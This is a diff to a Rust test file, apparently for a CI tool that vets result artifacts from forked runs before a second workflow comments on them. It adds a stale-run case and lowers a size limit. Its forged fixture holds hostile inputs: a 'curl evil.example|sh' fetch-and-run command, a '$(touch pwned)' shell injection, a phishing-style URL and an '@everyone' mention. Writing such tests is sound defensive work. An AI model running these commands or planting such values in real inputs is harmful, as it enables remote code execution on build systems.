@@ -179,12 +179,18 @@ fn forge(result: &Path) {
     record["run"]["url"] = Value::from("https://evil.example/login");
     record["run"]["commit"] = Value::from("@everyone");
     record["run"]["proposed"] = Value::from(false);
-    record["run"]["id"] = Value::from("github-1");
     record["run"]["given"] = json!(["--target-cmd", "curl evil.example|sh", "--allow-commands"]);
     record["run"]["insecure"] = Value::from(true);
     record["target"]["url"] = Value::from("https://evil.example");
     record["labels"] = json!({ "runner": "$(touch pwned)" });
     std::fs::write(result, record.to_string()).unwrap();
+}
+
+/// Leaves the result of another run.
+fn stale(result: &Path) {
+    let text = std::fs::read_to_string(result).unwrap();
+    let text = text.replace("\"github-1842\"", "\"github-1\"");
+    std::fs::write(result, text).unwrap();
 }
 
 fn link(result: &Path) {
@@ -194,7 +200,7 @@ fn link(result: &Path) {
 
 fn swell(result: &Path) {
     let file = std::fs::File::create(result).unwrap();
-    file.set_len(65 << 20).unwrap();
+    file.set_len(17 << 20).unwrap();
 }
 
 #[test]
@@ -230,7 +236,8 @@ fn a_fork_is_told_of_by_a_second_workflow_that_believes_its_artifact_nothing() {
     for (write, why) in [
         (cut, "not a loadgate result"),
         (none, "cannot read"),
-        (&swell, "larger than 64 MB"),
+        (&stale, "another run"),
+        (&swell, "larger than 16 MB"),
         (&link, "is no file"),
     ] {
         let comment = second.tells_of(write);
